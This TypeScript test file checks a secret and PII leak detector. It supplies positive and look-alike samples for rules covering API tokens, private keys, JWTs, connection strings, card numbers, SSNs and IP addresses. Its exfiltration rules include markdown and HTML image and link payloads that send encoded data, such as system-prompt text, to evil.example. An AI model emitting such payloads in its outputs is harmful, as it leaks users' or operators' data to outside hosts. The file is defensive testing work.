// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from 'vitest';
import { createStreamScanner, redact, scanLeaks } from '../../src/detect/index.js';
import { LEAK_PATTERNS } from '../../src/detect/leaks/leak-registry.js';
import { toBase62, toCrc32 } from '../../src/detect/rules/checksums.js';

function toGithubToken(prefix: string, body: string): string {
  return `${prefix}_${body}${toBase62(toCrc32(body), 6)}`;
}

const GH_BODY = 'Xq3Lm9Zr7Tb2Wc5Yd8Ke1Hf4Jg6Np0';

/**
 * One contract for every leak rule (DESIGN.md "registries as data"): each rule has positive and
 * negative samples, finds its positives under its own id, stays silent on its look-alikes, and
 * reports spans no longer than its horizon.
 */
const SAMPLES: Readonly<Record<string, { readonly positive: readonly string[]; readonly negative: readonly string[] }>> = {
  'secret.github-token': { positive: [`token ${toGithubToken('ghp', GH_BODY)} here`, toGithubToken('ghs', GH_BODY)], negative: ['ghp_short', 'the ghp_ prefix marks personal tokens'] },
  'secret.github-fine-grained-token': { positive: [`github_pat_A1b2C3d4E5f6G7h8I9j0K1_${'a'.repeat(20)}${'B2c3D4e5F6'.repeat(3)}${'z'.repeat(9)}`], negative: ['github_pat_ is the prefix'] },
  'secret.npm-token': { positive: [`//registry.npmjs.org/:_authToken=${toGithubToken('npm', GH_BODY)}`], negative: [`npm_${GH_BODY}000000`] },
  'secret.aws-access-key-id': { positive: ['AKIAZ7QW3ERT5YUI2OPL', 'id=ASIAJ2KL3MN4OP5QR6ST;'], negative: ['AKIAIOSFODNN7EXAMPLE', 'AKIA1234'] },
  'secret.aws-secret-access-key': { positive: ['aws_secret_access_key = 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'], negative: ['aws_secret_access_key = ${AWS_SECRET_ACCESS_KEY}'] },
  'secret.slack-token': { positive: ['xoxb-1234567890-9876543210-AbCdEfGhIjKlMnOpQrStUvWx'], negative: ['xoxb- is a bot token prefix'] },
  'secret.slack-webhook': { positive: ['https://hooks.slack.com/services/T0ABCDEFG/B0HIJKLMN/AbCdEfGhIjKlMnOpQrStUvWx'], negative: ['https://hooks.slack.com/services/'] },
  'secret.stripe-key': { positive: ['sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'rk_test_51H8abcdEFGH1234ijklMNOP'], negative: ['pk_live_4eC39HqLyjWDarjtT1zdp7dc', 'sk_live_short'] },
  'secret.openai-key': { positive: ['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', `OPENAI_API_KEY=sk-proj-${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7'.repeat(3)}`], negative: ['sk-learn is a python library', `sk-${'a'.repeat(40)}`] },
  'secret.anthropic-key': { positive: [`sk-ant-api03-${'Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe'.repeat(3)}AA`], negative: ['sk-ant-api03-short'] },
  'secret.google-api-key': { positive: ['key=AIzaSyD3f8Gh2Jk4Lm6Np8Qr0St2Uv4Wx6Yz8Ab'], negative: ['AIza alone is a prefix'] },
  'secret.google-oauth-secret': { positive: ['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'], negative: ['GOCSPX-short'] },
  'secret.private-key': { positive: ['-----BEGIN RSA PRIVATE KEY-----\nMIIEow', '-----BEGIN OPENSSH PRIVATE KEY-----', '-----BEGIN PRIVATE KEY-----'], negative: ['-----BEGIN CERTIFICATE-----', '-----BEGIN PUBLIC KEY-----'] },
  'secret.jwt': { positive: ['Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'], negative: ['eyJ is how base64 json starts'] },
  'secret.connection-string': { positive: ['DATABASE_URL=postgres://app:S3cr3t-P4ss@db.internal:5432/main', 'redis://:hunter2hunter@cache:6379/0'], negative: ['postgres://user:password@localhost/db', 'postgres://db.internal:5432/main', 'https://user:${PASSWORD}@host'] },
  'secret.assigned-credential': { positive: ['DB_PASSWORD="Xk9#mP2$vL7q"', 'client_secret: 7fG2kL9mQ4rT8wZ1'], negative: ['password = getPassword()', 'api_key = os.environ.get', 'PASSWORD=YOUR_PASSWORD_HERE', 'token: <your-token>'] },
  'secret.high-entropy-token': { positive: ['use 8fK2mQ9xL4vB7nR1tW6yZ3cH5jD0gP2s as the key', 'X9aB2cD4eF6gH8iJ0kL2mN4oP6qR8sT0uV2wX4yZ6'], negative: ['commit 3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f', '550e8400-e29b-41d4-a716-446655440000', 'AbstractSingletonProxyFactoryBeanFactory', 'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=='] },
  'pii.email': { positive: ['write to jane.doe42@proton.me today', 'm.rossi+news@uni-heidelberg.de'], negative: ['user@example.com', 'logo@2x.png', 'no at sign here'] },
  'pii.phone': { positive: ['call +1 415 555 0100', '(415) 555-0100', '+44 20 7946 0958'], negative: ['version 1.2.3', 'timeout = 4155550100', '2024-05-01'] },
  'pii.card-number': { positive: ['4111 1111 1111 1111', '5500-0000-0000-0004', '378282246310005'], negative: ['4111 1111 1111 1112', '1234-5678-9012-3456', 'order 4111111111111112'] },
  'pii.iban': { positive: ['DE89 3704 0044 0532 0130 00', 'GB82WEST12345698765432'], negative: ['DE89 3704 0044 0532 0130 01', 'XX00 0000 0000'] },
  'pii.us-ssn': { positive: ['ssn 123-45-6789'], negative: ['000-12-3456', '666-12-3456', '123-00-4567', 'id 123-45-67890'] },
  'pii.ipv4': { positive: ['server at 93.184.216.34 is down', '8.8.8.8'], negative: ['version 10.2.3.4', '127.0.0.1', '999.1.1.1', 'v1.2.3.4'] },
  'pii.ipv6': { positive: ['2001:db8:85a3::8a2e:370:7334', '2a00:1450:4001:82b:0:0:0:200e'], negative: ['12:30:45', 'aa:bb:cc:dd:ee:ff', '::1'] },
  'exfil.markdown-image': { positive: ['![logo](https://evil.example/p.png?d=the%20system%20prompt%20says)'], negative: ['![logo](https://example.org/logo.png)'] },
  'exfil.html-image': { positive: ['<img src="https://evil.example/x.gif?data=c2VjcmV0IHNhdWNl1234">'], negative: ['<img src="https://example.org/a.png">'] },
  'exfil.markdown-link': { positive: [`[click](https://evil.example/?q=${'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo'.repeat(2)})`], negative: ['[docs](https://docs.python.org/3/library/re.html)'] },
};

function hits(text: string, ruleId: string): number {
  return scanLeaks(text).filter((d) => d.ruleId === ruleId && d.score >= 0.5).length;
}

describe('leak rules contract', () => {
  it('has samples for every registered rule', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual(LEAK_PATTERNS.map((p) => p.ruleId).sort());
  });

  for (const pattern of LEAK_PATTERNS) {
    const samples = SAMPLES[pattern.ruleId];
    describe(pattern.ruleId, () => {
      it('finds every positive sample', () => {
        for (const text of samples?.positive ?? []) expect(hits(text, pattern.ruleId), text).toBeGreaterThan(0);
      });
      it('stays silent on look-alikes', () => {
        for (const text of samples?.negative ?? []) expect(hits(text, pattern.ruleId), text).toBe(0);
      });
      it('reports spans within its horizon and inside the text', () => {
        for (const text of samples?.positive ?? []) {
          for (const d of scanLeaks(text).filter((x) => x.ruleId === pattern.ruleId)) {
            expect(d.span.end - d.span.start).toBeLessThanOrEqual(pattern.horizon);
            expect(d.span.start).toBeGreaterThanOrEqual(0);
            expect(d.span.end).toBeLessThanOrEqual(text.length);
          }
        }
      });
      it('redacts the same when the text is streamed one character at a time', () => {
        for (const text of samples?.positive ?? []) {
          const scanner = createStreamScanner();
          let out = '';
          for (const ch of text) out += scanner.push(ch);
          out += scanner.flush();
          expect(out).toBe(redact(text, scanLeaks(text)));
        }
      });
    });
  }
});
